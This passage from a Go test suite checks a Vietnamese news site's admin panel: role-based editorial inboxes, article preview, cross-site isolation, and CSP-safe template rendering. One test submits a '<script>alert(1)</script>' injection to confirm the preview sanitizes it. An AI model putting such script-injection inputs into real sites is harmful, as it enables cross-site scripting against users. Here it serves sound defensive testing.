	if _, err := f.news.Submit(ctx, f.actor(f.reporter), f.siteA.ID, a.ID); err != nil {
		t.Fatal(err)
	}
	b := f.article(f.reporter, content.StatusApproval, "Bài chờ Ban biên tập")
	late := f.article(f.reporter, content.StatusScheduled, "Bài hẹn giờ bị trễ")
	late.PublishedAt = time.Now().Add(-10 * time.Minute)
	if err := f.content.SaveArticle(ctx, &late); err != nil {
		t.Fatal(err)
	}

	ed := f.signedIn(&f.editor).get(pathInbox + "/")
	if ed.status != 200 || !strings.Contains(ed.body, "Chờ biên tập") || !strings.Contains(ed.body, "Bài gửi biên tập") ||
		!strings.Contains(ed.body, "Bài «Bài gửi biên tập» chờ biên tập.") || strings.Contains(ed.body, "Bài chờ Ban biên tập") {
		t.Errorf("editor's inbox: %d\n%s", ed.status, excerpt(ed.body))
	}
	ap := f.signedIn(&f.approver).get(pathInbox + "/")
	for _, want := range []string{"Chờ duyệt", html.EscapeString(b.Title), "Bài hẹn giờ bị trễ", `id="qua-han"`, "Chờ biên tập"} {
		if !strings.Contains(ap.body, want) {
			t.Errorf("approver's inbox lacks %q", want)
		}
	}
	rp := f.signedIn(&f.reporter).get(pathInbox + "/")
	if rp.status != 200 || strings.Contains(rp.body, "Chờ duyệt") || strings.Contains(rp.body, `id="cho-bien-tap"`) {
		t.Errorf("reporter's inbox shows the queues")
	}
	if res := f.signedIn(&f.siteAdmin).get(pathInbox + "/"); res.status != http.StatusForbidden {
		t.Errorf("site admin's inbox: %d", res.status)
	}
}

func TestPreviewUsesThePublicPage(t *testing.T) {
	f := newNewsFixture(t)
	ctx := context.Background()
	a := f.article(f.reporter, content.StatusPublished, "Bài đã đăng")
	if _, err := f.news.Save(ctx, f.actor(f.editor), f.siteA.ID, a.ID, newsroom.Draft{CategoryID: f.sub.ID, Title: "Bản sửa chưa duyệt",
		Body: "<p>Nội dung <em>sửa</em>.</p>", Author: "Kim Thoả", Unit: "Đài truyền thanh"}, ""); err != nil {
		t.Fatal(err)
	}
	c := f.signedIn(&f.editor)
	res := c.get(articleURL(a.ID) + "/xem-truoc")
	if res.status != 200 {
		t.Fatalf("preview: %d\n%s", res.status, res.body)
	}
	for _, want := range []string{
		`<h1 class="article-title">Bản sửa chưa duyệt</h1>`, "<p>Nội dung <em>sửa</em>.</p>", "Kim Thoả - Đài truyền thanh",
		`href="/static/site.`, f.siteA.Name, "Bản xem trước", `href="/chuyen-muc/kinh-te"`, `class="tt-preview"`,
	} {
		if !strings.Contains(res.body, want) {
			t.Errorf("preview lacks %q", want)
		}
	}
	if res.header.Get("Cache-Control") != "no-store" {
		t.Errorf("preview cacheable: %q", res.header.Get("Cache-Control"))
	}
	// The typed text, unsaved, with a script that must not survive.
	res = c.post(articleURL(a.ID)+"/xem-truoc", draftForm(f.cat.ID, "Đang gõ dở", "<p>Chưa lưu</p><script>alert(1)</script>"))
	if res.status != 200 || !strings.Contains(res.body, "Đang gõ dở") || strings.Contains(res.body, "alert(1)") {
		t.Errorf("preview of the typed text: %d", res.status)
	}
	if got := f.find(a.ID); got.Title != "Bài đã đăng" {
		t.Errorf("the preview saved: %q", got.Title)
	}
	if res := f.signedIn(&f.reporter2).get(articleURL(a.ID) + "/xem-truoc"); res.status != http.StatusForbidden {
		t.Errorf("another reporter's preview: %d", res.status)
	}
}

func TestArticleOfAnotherSiteIsNotFound(t *testing.T) {
	f := newNewsFixture(t)
	ctx := context.Background()
	b := content.Article{SiteID: f.siteB.ID, CategoryID: f.catB.ID, Title: "Bài của Hoa Lư", Status: content.StatusDraft, OwnerID: f.outsider.ID}
	if err := f.content.SaveArticle(ctx, &b); err != nil {
		t.Fatal(err)
	}
	c := f.signedIn(&f.admin)
	if res := c.get(articleURL(b.ID)); res.status != http.StatusNotFound {
		t.Errorf("site B's article on site A: %d", res.status)
	}
	if res := c.get(pathArticles + "/khong-phai-so"); res.status != http.StatusNotFound {
		t.Errorf("bad id: %d", res.status)
	}
	if res := c.post(articleURL(b.ID)+"/khong-co", url.Values{}); res.status != http.StatusNotFound {
		t.Errorf("unknown action: %d", res.status)
	}
}

// TestArticleTemplatesRender executes the pages of this file with their
// view models and checks nothing inline slips past the CSP.
func TestArticleTemplatesRender(t *testing.T) {
	v, err := loadViews(adminFS(), nil)
	if err != nil {
		t.Fatal(err)
	}
	site := content.Site{Name: "Trang thông tin điện tử huyện Gia Viễn"}
	l := Layout{Title: "T", Site: site, User: &CurrentUser{Name: "Kim Thoả", Email: "a@b.vn", Roles: []string{"Phóng viên"}}}
	for name, data := range articleTemplateSamples(l) {
		tpl, ok := v.Page(name)
		if !ok {
			t.Errorf("no template %s", name)
			continue
		}
		var b strings.Builder
		if err := tpl.Execute(&b, data); err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		out := b.String()
		if strings.Contains(out, "style=") || strings.Contains(out, "<style") || inlineHandler.MatchString(out) {
			t.Errorf("%s: inline style or event handler, which the CSP forbids", name)
		}
		for _, m := range scriptTag.FindAllStringSubmatch(out, -1) {
			if !strings.Contains(m[1], ` src="/quan-tri/static/`) || m[2] != "" {
				t.Errorf("%s: inline script %q, which the CSP forbids", name, m[0])
			}
		}
		if strings.Contains(out, "ZgotmplZ") {
			t.Errorf("%s: a value was rejected by the escaper", name)
		}
	}
}

// scriptTag matches a script element: its attributes and its content.
var scriptTag = regexp.MustCompile(`(?s)<script([^>]*)>(.*?)</script>`)

// articleTemplateSamples gives a view model for each page of the newsroom,
// for the template tests.
func articleTemplateSamples(l Layout) map[string]any {
	w := when(time.Date(2024, 3, 8, 7, 30, 0, 0, time.UTC))
	row := ArticleRow{ID: 1, Title: "Bài", URL: "/quan-tri/bai-viet/1", Status: "Nháp", StatusKey: "draft", Pending: "Chờ duyệt", Author: "A", Updated: w, PublishedAt: w, Flagged: true}
	form := Form{Order: articleFields, Errors: map[string]string{"title": "x", "body": "y", "at": "z"}, Alert: "Có lỗi"}
	opts := []Option{{Value: "1", Label: "Tin tức", Selected: true}}
	seg := []DiffSeg{{Text: "a"}, {Kind: "br"}, {Text: "b", Kind: "del"}, {Text: "c", Kind: "ins"}}
	return map[string]any{
		"articles": ArticleListPage{Layout: l, Action: "/quan-tri/bai-viet", Statuses: opts, Categories: opts, Authors: opts, Filtered: true,
			Rows: []ArticleRow{row}, Total: 1, Pager: Pager{Page: 2, Pages: 3, PrevURL: "/a", NextURL: "/b"}, CanCreate: true},
		"article": ArticleEditPage{Layout: l, Form: form, Notice: "n", ID: 1, Heading: "Sửa", Version: "1", ArticleTitle: "T", Body: "<p>b</p>", LibraryURL: "/quan-tri/thu-vien", Photos: []PhotoChoice{{ID: "0", InputID: "photo-0"}, {ID: "5", InputID: "photo-5", Thumb: "/anh/x-480.jpg", Alt: "Lễ hội", Selected: true}},
			Categories: opts, LegacyOptions: opts, Status: "Đã đăng", StatusKey: "published", Stage: "Chờ duyệt", StageKey: "approval",
			Live: true, Pending: true, ReviewNote: "r", Withdrawn: "w", Flagged: true, PublicURL: "/tin-tuc/x", ScheduledAt: w, Updated: w,
			Editable: true, CanSave: true, SaveLabel: "Lưu", CanSubmit: true, CanReturn: true, CanPass: true, CanPublish: true, CanSchedule: true,
			CanForce: true, CanWithdraw: true, CanUpload: true, HasWorkflow: true, ReadOnlyWhy: "x", SaveURL: "/s", UploadURL: "/quan-tri/anh",
			SelfApproval: "confirm", SelfConfirm: true, CanQuickFix: true, QuickFixURL: "/q", StateNote: "s", Corrected: w, WithdrawnNotice: "n", WithdrawNotice: "n"},
		"article-quickfix": QuickFixPage{Layout: l, Form: Form{Order: quickFixFields, Errors: map[string]string{"reason": "x"}}, ID: 1, Version: "2",
			ArticleTitle: "T", Body: "<p>b</p>", Reason: "r", EditURL: "/e", SaveURL: "/s", PublicURL: "/tin-tuc/x", RevisionsURL: "/r", Published: w, Corrected: w},
		"revisions": RevisionsPage{Layout: l, ArticleID: 1, ArticleTitle: "T", Rows: []RevisionRow{{Number: 2, Note: "n", CompareURL: "/c", RestoreURL: "/r", Pending: true}, {Number: 1}},
			Left: opts, Right: opts, CanRestore: true},
		"revision-diff": RevisionDiffPage{Layout: l, ArticleID: 1, ArticleTitle: "T", A: RevisionRow{Number: 1}, B: RevisionRow{Number: 2},
			Fields: []DiffField{{Label: "Tiêu đề", Left: seg, Right: seg, Changed: true}, {Label: "Tóm tắt"}}},
		"inbox": InboxPage{Layout: l, Queues: []Queue{{ID: "q", Heading: "Chờ duyệt", Rows: []ArticleRow{row}, Alert: true}, {ID: "e", Empty: "Không"}},
			Notices: []NoticeRow{{Message: "m", URL: "/u", At: w, Unread: true}, {Message: "m2"}}},
	}
}

// TestArticleRoutesTakeOverTheSections checks the registration in both
// states of admin.go: with the placeholder pages of "Bài viết" and "Hộp
// thư" registered (the list answers at …/bai-viet/), and without them (it
// answers at …/bai-viet itself); and that without the newsroom the
// placeholders stay.
func TestArticleRoutesTakeOverTheSections(t *testing.T) {
	f := newNewsFixture(t)
	get := func(mux *http.ServeMux, path string) string {
		_, pattern := mux.Handler(&http.Request{Method: http.MethodGet, URL: &url.URL{Path: path}, Host: "a.test"})
		return pattern
	}
	free := http.NewServeMux()
	f.srv.registerArticles(free)
	for path, want := range map[string]string{
		pathArticles: "GET " + pathArticles, pathArticles + "/": "GET " + pathArticles + "/{$}",
		pathInbox: "GET " + pathInbox, pathNewArticle: "GET " + pathArticles + "/{id}",
	} {
		if got := get(free, path); got != want {
			t.Errorf("without placeholders, GET %s → %q, want %q", path, got, want)
		}
	}
	taken := http.NewServeMux()
	taken.Handle("GET "+pathArticles, http.NotFoundHandler())
	taken.Handle("GET "+pathInbox, http.NotFoundHandler())
	f.srv.registerArticles(taken) // must not panic
	if got := get(taken, pathArticles+"/"); got != "GET "+pathArticles+"/{$}" {
		t.Errorf("with placeholders, the list is at %q", got)
	}

	bare, err := New(Options{Users: f.users, Sites: f.sites})
	if err != nil {
		t.Fatal(err)
	}
	none := http.NewServeMux()
	bare.registerArticles(none)
	if got := get(none, pathArticles); got != "GET "+pathArticles {
		t.Errorf("without the newsroom, the placeholder is %q", got)
	}
	if got := get(none, pathNewArticle); got != "" {
		t.Errorf("without the newsroom, the editor is registered: %q", got)
	}
}
